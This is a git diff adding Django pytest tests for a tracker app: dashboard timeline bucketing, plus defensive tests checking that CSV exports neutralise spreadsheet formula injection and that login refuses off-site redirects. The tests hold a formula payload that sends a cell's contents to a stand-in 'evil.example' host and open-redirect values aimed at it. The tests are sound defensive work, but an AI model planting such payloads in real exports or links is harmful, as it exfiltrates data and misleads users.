@@ -11,7 +11,7 @@ from django.db import connection
 from django.test.utils import CaptureQueriesContext
 from django.urls import reverse
 
-from tests import factories
+from tracker.devtools import factories
 from tracker.choices import (
     AgreementKind,
     AgreementStatus,
@@ -139,6 +139,43 @@ def test_dashboard_timeline_of_one_month_shows_the_year_before(admin_client):
     bars = page(admin_client, "/").context["timeline"]["bars"]
     assert [bar["label"] for bar in bars][0] == "January 2021" and len(bars) == 12
     assert [bar["count"] for bar in bars] == [0] * 11 + [1]
+
+
+@pytest.mark.django_db
+def test_dashboard_timeline_stays_within_48_bars_over_the_whole_date_range(admin_client):
+    from tracker.dates import EARLIEST_DATE, LATEST_DATE
+
+    for signed_on in (EARLIEST_DATE, datetime.date(2021, 12, 28), LATEST_DATE):
+        factories.AgreementFactory(signed_on=signed_on)
+    response = page(admin_client, "/")
+    bars = response.context["timeline"]["bars"]
+    assert len(bars) <= 48
+    assert sum(bar["count"] for bar in bars) == 3
+    assert bars[0]["start"] == EARLIEST_DATE and bars[-1]["end"] == LATEST_DATE
+    assert bars[0]["label"] == "1800–1809"
+    assert len(response.content) < 60_000
+    # Every bar's link is a filter the agreements list accepts.
+    for bar in (bars[0], bars[-1]):
+        listed = page(
+            admin_client,
+            "/agreements/",
+            signed_after=bar["start"].isoformat(),
+            signed_before=bar["end"].isoformat(),
+        )
+        assert len(rows_of(listed)) == 1
+
+
+@pytest.mark.django_db
+def test_dashboard_timeline_counts_quarters_when_months_would_be_too_many(admin_client):
+    factories.AgreementFactory(signed_on=datetime.date(2015, 2, 10))
+    factories.AgreementFactory(signed_on=datetime.date(2015, 3, 31))
+    factories.AgreementFactory(signed_on=datetime.date(2021, 12, 28))
+    bars = page(admin_client, "/").context["timeline"]["bars"]
+    assert len(bars) == 28
+    assert (bars[0]["label"], bars[0]["count"]) == ("Q1 2015", 2)
+    assert bars[0]["start"] == datetime.date(2015, 1, 1)
+    assert bars[0]["end"] == datetime.date(2015, 3, 31)
+    assert (bars[-1]["label"], bars[-1]["count"]) == ("Q4 2021", 1)
 
 
 # Agreements list -------------------------------------------------------------------------
@@ -605,3 +642,75 @@ def test_empty_slots_of_a_submitted_form_are_ignored(admin_client, article_data)
         ordering="",
     )
     assert [a.slug for a in rows_of(response)] == [ABA]
+
+
+# Hostile input in exports and the login ------------------------------------------------
+
+FORMULA = '=HYPERLINK("http://evil.example/?x="&A1)'
+
+
+def make_hostile_records():
+    """One record per list whose free text a spreadsheet would run as a formula."""
+    organisation = factories.OrganisationFactory(name=FORMULA)
+    factories.PersonFactory(name="@cmd")
+    agreement = factories.AgreementFactory(title="+1 vote for the accord")
+    factories.CommitmentFactory(
+        agreement=agreement, party=organisation, description="-2 factories by 2030"
+    )
+    factories.SourceFactory(title="\tTabbed title")
+    factories.SourceFactory(title="\rCarriage-return title")
+
+
+@pytest.mark.django_db
+@pytest.mark.parametrize(
+    ("url", "column", "expected"),
+    [
+        ("/organisations/", "name", {"'" + FORMULA}),
+        ("/people/", "name", {"'@cmd"}),
+        ("/agreements/", "title", {"'+1 vote for the accord"}),
+        ("/commitments/", "description", {"'-2 factories by 2030"}),
+        ("/sources/", "title", {"'\tTabbed title", "'\rCarriage-return title"}),
+    ],
+)
+def test_csv_exports_neutralise_cells_a_spreadsheet_would_run_as_formulas(
+    admin_client, url, column, expected
+):
+    make_hostile_records()
+    header, *rows = csv_rows(admin_client.get(url, {"format": "csv"}))
+    cells = {row[header.index(column)] for row in rows}
+    assert expected <= cells, cells
+    dangerous = ("=", "+", "-", "@", "\t", "\r")
+    assert not [cell for row in rows for cell in row if cell.startswith(dangerous)]
+
+
+@pytest.mark.django_db
+def test_csv_exports_keep_ordinary_values_and_numbers_as_they_are(admin_client):
+    agreement = factories.AgreementFactory(title="Accord: 2021 = year one")
+    factories.CommitmentFactory.create_batch(2, agreement=agreement)
+    header, *rows = csv_rows(admin_client.get("/agreements/", {"format": "csv"}))
+    (row,) = rows
+    assert row[header.index("title")] == "Accord: 2021 = year one"
+    assert row[header.index("commitments")] == "2"
+
+
+@pytest.mark.django_db
+@pytest.mark.parametrize("next_url", [None, "https://evil.example/", "//evil.example/"])
+def test_login_without_a_safe_next_lands_on_the_dashboard(client, next_url):
+    User.objects.create_user("reader", password="read-the-tracker-42", is_staff=True)
+    data = {"username": "reader", "password": "read-the-tracker-42"}
+    if next_url:
+        data["next"] = next_url
+    response = client.post(reverse("admin:login"), data, follow=True)
+    assert response.redirect_chain[0][0] == reverse("tracker:dashboard")
+    assert response.status_code == HTTPStatus.OK
+    assert response.request["PATH_INFO"] == reverse("tracker:dashboard")
+
+
+@pytest.mark.django_db
+def test_login_with_a_safe_next_still_goes_there(client):
+    User.objects.create_user("reader", password="read-the-tracker-42", is_staff=True)
+    response = client.post(
+        reverse("admin:login"),
+        {"username": "reader", "password": "read-the-tracker-42", "next": "/agreements/"},
+    )
+    assert response["Location"] == "/agreements/"
